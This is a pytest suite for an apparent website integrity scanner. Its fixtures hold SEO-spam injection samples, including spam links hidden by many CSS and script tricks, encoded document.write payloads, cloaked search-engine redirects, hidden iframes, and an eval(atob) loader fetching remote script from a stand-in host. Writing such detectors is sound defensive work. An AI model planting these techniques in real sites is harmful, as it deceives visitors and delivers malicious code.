"""What others put into a page is found, wherever and however they put it: one small page each."""

import base64
import json

import pytest

from parvis.core.integrity import Kind, Page, inspect

URL = "https://www.musee-du-lac.example/expositions"
HEAD = '<!doctype html><html lang="fr"><head><title>Le musée du lac</title></head>'
OWN = """
<header><nav><a href="/">Accueil</a> <a href="/expositions">Expositions</a> <a href="/contact">Contact</a></nav></header>
<main><h1>Les bateaux du lac</h1><p>Le musée ouvre ses portes tous les jours de la semaine, sauf le lundi, et les
visites guidées sont offertes aux écoles du canton. Réservez avec <a href="https://www.cff.ch/fr">les trains</a> ou
lisez <a href="/histoire">l’histoire de la navigation</a> dans la région, des galères aux bateaux à vapeur.</p></main>
"""
CASINO = [
    ("https://fanolira.ru/?node=4432", "casino en ligne"),
    ("https://www.tobesiko.co.za/2023/bonus.html", "machines à sous"),
    ("http://kilomera.ac.id/-/slot/", "tours gratuits"),
]
ARABIC = [
    ("https://fanolira.ru/a", "كازينو اون لاين"),
    ("https://tobesiko.net/b", "روليت"),
    ("http://kilome.org/c", "مراهنات"),
]
PLAIN = [(f"https://{name}.com/", text) for name, text in (
    ("rofakime", "Toiture"), ("selanibo", "Plomberie"), ("vatirole", "Déménagement"), ("zukamine", "Serrurier"),
    ("nibaroto", "Vitrier"), ("golimera", "Jardinier"))]  # fmt: skip


def anchors(links, between=" "):
    return between.join(f'<a href="{href}">{text}</a>' for href, text in links)


def hrefs(links):
    return {href for href, _ in links}


def page(*, before="", head="", top="", middle="", bottom="", after=""):
    start = HEAD.replace("</head>", f"{head}</head>")
    return f"{before}{start}<body>{top}{OWN}{middle}<footer>© Musée</footer>{bottom}</body></html>{after}"


def found(source, **options):
    return {finding.href for finding in inspect(Page(source), url=URL, **options) if finding.href}


BOXES = {
    "display": '<div style="display:none">{}</div>',
    "display, odd writing": "<div STYLE=' DISPLAY : none !important ; '>{}</div>",
    "visibility": '<p style="visibility:hidden">{}</p>',
    "hidden attribute": "<div hidden>{}</div>",
    "template": "<template>{}</template>",
    "off to the left": '<div style="position:absolute;left:-9999px">{}</div>',
    "off to the top in em": '<div style="position:fixed;top:-400em">{}</div>',
    "margin": '<div style="margin-left:-5000px">{}</div>',
    "margin in short": '<div style="margin:0 0 0 -5000px">{}</div>',
    "moved away": '<div style="transform:translate(-9999px, 0)">{}</div>',
    "shrunk": '<div style="transform:scale(0)">{}</div>',
    "one pixel": '<div style="width:1px;height:1px;overflow:hidden">{}</div>',
    "no height": '<div style="height:0;overflow:hidden">{}</div>',
    "no greatest height": '<div style="max-height:0;overflow:hidden">{}</div>',
    "no letters": '<span style="font-size:0">{}</span>',
    "letters of one pixel": '<span style="font:1px/1 Arial">{}</span>',
    "transparent": '<div style="opacity:0">{}</div>',
    "transparent in an old browser": '<div style="filter:alpha(opacity=0)">{}</div>',
    "clipped": '<div style="position:absolute;clip:rect(0,0,0,0)">{}</div>',
    "clip path": '<div style="clip-path:inset(100%)">{}</div>',
    "indented": '<div style="text-indent:-9999px">{}</div>',
    "white on white": '<div style="background:#fff"><span style="color:white">{}</span></div>',
    "font in the colour of the ground": '<table bgcolor="#FFFFFF"><tr><td><font color="#fffffe">{}</font></table>',
    "transparent letters": '<div style="color:transparent">{}</div>',
    "behind": '<div style="position:absolute;z-index:-5">{}</div>',
    "marquee": '<marquee width="1" height="1">{}</marquee>',
    "noscript": "<noscript>{}</noscript>",
    "a class": "<style>.x9{{position:absolute;top:-4000px}}</style><ul class='a x9'><li>{}</li></ul>",
    "an id": "<style>#q{{display:none}}</style><section><div id='q'>{}</div></section>",
    "a path of selectors": "<style>main ~ p,footer>p,div.k p[lang] {{ display : none }}</style><div class=k><p lang=fr>{}</p></div>",
    "important over inline": "<style>.h{{display:none!important}}</style><div class=h style='display:block'>{}</div>",
    "escaped": "<div style='disp\\6c ay:none'>{}</div>",
    "a comment within": "<div style='display:/**/none'>{}</div>",
    "a script by id": "<div id='z1'>{}</div><script>document.getElementById('z1').style.display='none';</script>",
    "in a menu's clothes": '<ul class="menu nav footer-links" style="display:none"><li>{}</li></ul>',
    "in a consent tool's clothes": '<div class="cookie-consent" style="display:none">{}</div>',
    "never closed": '<div style="display:none">{}',
}


@pytest.mark.parametrize("box", BOXES.values(), ids=BOXES.keys())
def test_hidden_links_are_found_with_the_very_addresses_of_the_source(box):
    assert found(page(bottom=box.format(anchors(CASINO)))) == hrefs(CASINO)


@pytest.mark.parametrize("box", BOXES.values(), ids=BOXES.keys())
def test_hidden_links_in_another_script_are_found_whatever_they_say(box):
    links = [(href, "مقالات جديدة") for href, _ in ARABIC]
    assert found(page(bottom=box.format(anchors(links)))) == hrefs(links)


@pytest.mark.parametrize(
    "how", ["off to the left", "one pixel", "no letters", "clipped", "indented", "behind", "an even tag"]
)
def test_many_hosts_named_nowhere_else_are_found_where_hardly_anybody_hides_a_menu(how):
    box = BOXES.get(how, BOXES["shrunk"])
    assert found(page(middle=box.format(anchors(PLAIN)))) == hrefs(PLAIN)


def test_links_before_the_page_and_after_its_end_are_found():
    assert found(page(before=anchors(PLAIN[:1]) + "\n")) == hrefs(PLAIN[:1])
    assert found(page(after="\n" + anchors(PLAIN[:3], "<br>"))) == hrefs(PLAIN[:3])
    kinds = {finding.kind for finding in inspect(Page(page(after=anchors(CASINO))), url=URL)}
    assert kinds == {Kind.LINK_OUTSIDE}


def test_links_behind_the_body_and_in_the_head_are_found():
    behind = page().replace("</body>", "</body>" + anchors(CASINO))
    assert found(behind) == hrefs(CASINO)
    assert found(page(head=anchors(CASINO))) == hrefs(CASINO)


WRITERS = {
    "inner html": 'var d=document.createElement("div");d.style.display="none";d.innerHTML={};document.body.appendChild(d)',
    "document.write": "document.write('<div style=\"position:absolute;left:-900px\">'+{}+'</div>')",
    "jquery": '$("body").append({}); $("#x").hide()',
    "a function that runs later": 'setTimeout(function(){{var e=document.body;e.insertAdjacentHTML("beforeend",{});e.style.opacity="0"}},9)',
}


@pytest.mark.parametrize("writer", WRITERS.values(), ids=WRITERS.keys())
def test_links_that_a_script_writes_are_found(writer):
    script = f"<script>{writer.format(json.dumps(anchors(CASINO)))}</script>"
    assert found(page(bottom=script)) == hrefs(CASINO)
    slashed = f"<script>{writer.format(json.dumps(anchors(CASINO)).replace('/', chr(92) + '/'))}</script>"
    assert found(page(top=slashed)) == hrefs(CASINO)


MARKUP = f'<div style="display:none">{anchors(CASINO)}</div>'
ENCODED = {
    "base64": f'document.write(decodeURIComponent(escape(atob("{base64.b64encode(MARKUP.encode()).decode()}"))))',
    "eval": f'eval(atob("{base64.b64encode(f"document.write({json.dumps(MARKUP)})".encode()).decode()}"))',
    "codes": f"document.write(String.fromCharCode({','.join(str(ord(sign)) for sign in MARKUP)}))",
    "percent": f"document.write(unescape('{''.join(f'%{ord(sign):02X}' if ord(sign) < 256 else f'%u{ord(sign):04X}' for sign in MARKUP)}'))",
    "hexadecimal": 'document.write("'
    + "".join(f"\\x{ord(sign):02x}" if ord(sign) < 256 else sign for sign in MARKUP)
    + '")',
}


@pytest.mark.parametrize("script", ENCODED.values(), ids=ENCODED.keys())
def test_encoded_links_are_found(script):
    assert found(page(bottom=f"<script>{script}</script>")) == hrefs(CASINO)


VISIBLE = {
    "another script, doorway": ("https://fanolira.ru/?node=4432", "كازينو اون لاين"),
    "gambling": ("https://tobesiko.com/", "judi online"),
    "counterfeit": ("https://tobesiko.com/shop/rolex-replica/", "replica rolex"),
    "pharmacy": ("http://kilomera.gov.co/?art=3321", "generic cialis"),
    "loans": ("https://www.kilomera.net/payday-loans/", "payday loans no credit check"),
    "essays": ("https://tobesiko.org/", "write my essay for me"),
    "japanese": ("https://kilomera.jp.net/?p=881", "スーパーコピー 時計"),
}


@pytest.mark.parametrize(("href", "text"), VISIBLE.values(), ids=VISIBLE.keys())
def test_visible_link_is_found_where_it_has_nothing_to_do_with_the_page(href, text):
    source = page().replace("visites guidées", f'visites <a href="{href}" rel="dofollow">{text}</a> guidées')
    assert found(source) == {href}


def test_visible_list_is_found_as_a_whole():
    links = [
        ("https://a-kilo.com/", "kasyno online"),
        ("https://sobera.pl/x", "bukmacher bez podatku"),
        ("https://vimona.info/", "automaty"),
    ]
    assert found(page(bottom=anchors(links))) == hrefs(links)


def test_partners_beside_an_injected_list_are_left_alone():
    links = [
        ("https://a-kilo.com/", "kasyno online"),
        ("https://sobera.pl/x", "judi online"),
        ("https://vimona.info/", "situs togel"),
    ]
    partner = '<a href="https://www.hotelalpina.ch/">Hotel Alpina</a> '
    assert found(page(bottom=partner + anchors(links))) == hrefs(links)


def test_what_the_same_hand_has_hidden_elsewhere_on_the_page_is_found_with_it():
    text = "Conseils pour bien choisir son jeu au casino"
    alone = '<p style="overflow:hidden;height:1px">Lire <a href="https://vimona.info/2021/a-b-c">{}</a>.</p>'
    far = '<span style="position:absolute;left:-99196px"><a href="https://kilomera.net/wp-content/uploads/redux/x/lasix.html">https://kilomera.net/wp-content/uploads/redux/x/lasix.html</a></span>'
    first = f'<span style="position:absolute;left:-99196px">{anchors(CASINO[:2])}<a href="https://kilomera.net/y">tours gratuits</a></span>'
    told = found(page(top=alone.format(text), middle=first, bottom=far))
    assert told == hrefs(CASINO[:2]) | {
        "https://kilomera.net/y", "https://vimona.info/2021/a-b-c",
        "https://kilomera.net/wp-content/uploads/redux/x/lasix.html",
    }  # fmt: skip


def test_other_ways_are_found_as_what_they_are():
    cases = {
        Kind.REDIRECT: page(head='<meta http-equiv="Refresh" content="0; url=https://tobesiko.ru/win">'),
        Kind.HIDDEN_SCRIPT: page(head=f'<script>eval(atob("{base64.b64encode(b"var s=document.createElement(0);s.src=%s//tobesiko.ru/x.js%s" .replace(b"%s", bytes([34]))).decode()}"))</script>'),
        Kind.UNKNOWN_SCRIPT: page(head='<script src="http://185.12.4.9/jquery.js"></script>'),
        Kind.HIDDEN_FRAME: page(bottom='<iframe src="http://185.12.4.9/in.php" width="1" height="1"></iframe>'),
        Kind.DEFACEMENT: "<html><title>Hacked by Nobody</title><body><h1>HaCkeD by Nobody</h1>greetz to all</body></html>",
        Kind.STUFFED_META: page(head='<meta property="og:title" content="Situs slot gacor hari ini gampang menang">').replace("Les bateaux", "Les bateaux, les galères et les voiliers " * 9),
        Kind.STRANGE_CANONICAL: page(head='<link rel="canonical" href="https://best-online-casino.com/fr">'),
        Kind.INJECTED_COMMENT: page(middle=f"<!-- {anchors(CASINO)} -->"),
    }  # fmt: skip
    for kind, source in cases.items():
        assert kind in {finding.kind for finding in inspect(Page(source), url=URL)}, kind


def test_script_that_sends_searchers_away_is_found():
    script = '<script>if(/google|bing/.test(document.referrer)){window.location.href="https://tobesiko.ru/in"}</script>'
    (finding,) = inspect(Page(page(head=script)), url=URL)
    assert (finding.kind, finding.href, finding.severity) == (Kind.REDIRECT, "https://tobesiko.ru/in", "critical")


def test_href_stands_as_written_with_its_references_and_spaces():
    box = '<div style="display:none"><a href=" https://tobesiko.ru/?p=1&amp;id=casino ">casino en ligne</a> {}</div>'
    assert " https://tobesiko.ru/?p=1&amp;id=casino " in found(page(bottom=box.format(anchors(CASINO))))


def test_own_links_within_an_injected_block_are_left_alone():
    box = f'<div style="display:none">{anchors(CASINO)}<a href="/histoire">x</a><a href="https://musee-du-lac.example/">y</a></div>'
    assert found(page(bottom=box)) == hrefs(CASINO)


def test_finding_says_what_and_why_and_how_to_mend_it_in_both_languages():
    finding, *_ = inspect(Page(page(bottom=BOXES["display"].format(anchors(CASINO)))), url=URL)
    assert finding.kind is Kind.HIDDEN_LINK
    assert "casino en ligne" in finding.evidence.en and "display: none" in finding.evidence.fr
    assert finding.mend.en != finding.mend.fr
